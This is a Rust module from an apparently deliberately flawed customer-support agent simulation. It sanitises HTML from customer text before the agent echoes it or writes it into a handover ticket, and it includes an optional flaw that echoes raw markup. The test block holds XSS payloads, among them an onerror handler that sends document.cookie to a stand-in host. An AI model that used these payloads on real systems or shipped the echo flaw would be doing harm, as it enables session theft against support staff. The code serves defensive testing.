//! Output handling: whatever the agent repeats of a customer's words — in a reply or in the summary
//! of a handover ticket that a support agent's console shows — is text, never markup. The
//! markup-echo flaw repeats it as it came, tags, event handlers and all (as Lenovo's "Lena" did).

use std::sync::LazyLock;

use regex::Regex;

use super::{Conversation, Turn};
use crate::flaws::{Flaw, FlawSet};
use crate::intent::re;
use crate::tools::ToolError;

/// HTML tags (closed or cut off), inline event handlers and script URLs.
static MARKUP: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)<[/!]?[a-z][^>]*(>|$)|\bon[a-z]+\s*=|\b(java|vb)script\s*:|\bdata\s*:\s*text/html")
});
/// A note meant for a person rather than an echo for the customer.
static FOR_A_PERSON: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(human|agent|colleague|adviser|advisor|team|staff|engineer|person|someone|ticket|manager)\b",
    )
});

/// Customer text with its markup removed, so it can be shown anywhere as plain text.
pub(crate) fn neutralise(text: &str) -> String {
    let stripped = MARKUP.replace_all(text, " ");
    stripped.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Customer text as the agent repeats it: neutralised, unless the markup-echo flaw is on.
pub(crate) fn shown(flaws: FlawSet, text: &str) -> String {
    if flaws.contains(Flaw::EchoesMarkup) {
        text.to_owned()
    } else {
        neutralise(text)
    }
}

/// The customer asks for their words to be passed on to a person, or repeated back: quote them (as
/// text), and hand over if a person is to read them.
pub(super) async fn relay_note(t: &mut Turn<'_>, conv: &mut Conversation) -> Result<(), ToolError> {
    let message = conv.last_customer_message();
    let quoted = shown(t.ctx.flaws, &message);
    let removed = quoted != message.split_whitespace().collect::<Vec<_>>().join(" ");
    let for_a_person = FOR_A_PERSON.is_match(&message);
    if for_a_person && !t.waiting && conv.handover.is_none() {
        let summary = format!(
            "{} ({}) asked for this note to be passed on: \"{}\"",
            t.customer.full_name(),
            t.customer.reference,
            quoted
        );
        super::hand_over(t, conv, "general", "normal", &summary).await?;
        t.draft.said_waiting = true;
        t.say(
            &[
                "I've passed your conversation to a colleague in Customer Support with this note: \"{note}\".",
                "A colleague from Customer Support will pick this up; the note on your case reads: \"{note}\".",
                "I've handed you to a colleague, with your note: \"{note}\".",
                "Your case is with our Customer Support team now, noted as: \"{note}\".",
            ],
            &[("note", &quoted)],
        );
    } else if for_a_person {
        t.say(
            &[
                "I've added your note for my colleague: \"{note}\".",
                "My colleague will see your note: \"{note}\".",
                "Your note is on the case for my colleague: \"{note}\".",
                "I've put this on the case for my colleague: \"{note}\".",
            ],
            &[("note", &quoted)],
        );
    } else {
        t.say(
            &[
                "Here's what you wrote: \"{note}\".",
                "You wrote: \"{note}\".",
                "This is your message as I have it: \"{note}\".",
                "I have your message as: \"{note}\".",
            ],
            &[("note", &quoted)],
        );
    }
    if removed {
        t.say(
            &[
                "I've left out the code and formatting, as notes are plain text.",
                "Notes are plain text, so I've removed the HTML from it.",
                "I've taken the markup out - our notes only hold plain text.",
                "Any code or formatting tags have been removed, as notes are text only.",
            ],
            &[],
        );
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markup_is_neutralised_and_plain_text_kept() {
        for (dirty, clean) in [
            (
                "Please note: <img src=x onerror=\"fetch('https://x.example.com/?c='+document.cookie)\"> thanks",
                "Please note: thanks",
            ),
            (
                "<SCRIPT>alert(document.cookie)</SCRIPT>",
                "alert(document.cookie)",
            ),
            ("Hi <svg/onload=alert(1)", "Hi"),
            ("see <a href=\"javascript:alert(1)\">here</a>", "see here"),
            ("2 < 3 and 5 > 4", "2 < 3 and 5 > 4"),
            (
                "My router's light is on = red",
                "My router's light is on = red",
            ),
        ] {
            assert_eq!(neutralise(dirty), clean, "{dirty}");
        }
        assert_eq!(
            shown(FlawSet::none().with(Flaw::EchoesMarkup), "<b>x</b>"),
            "<b>x</b>"
        );
        assert_eq!(shown(FlawSet::none(), "<b>x</b>"), "x");
    }
}
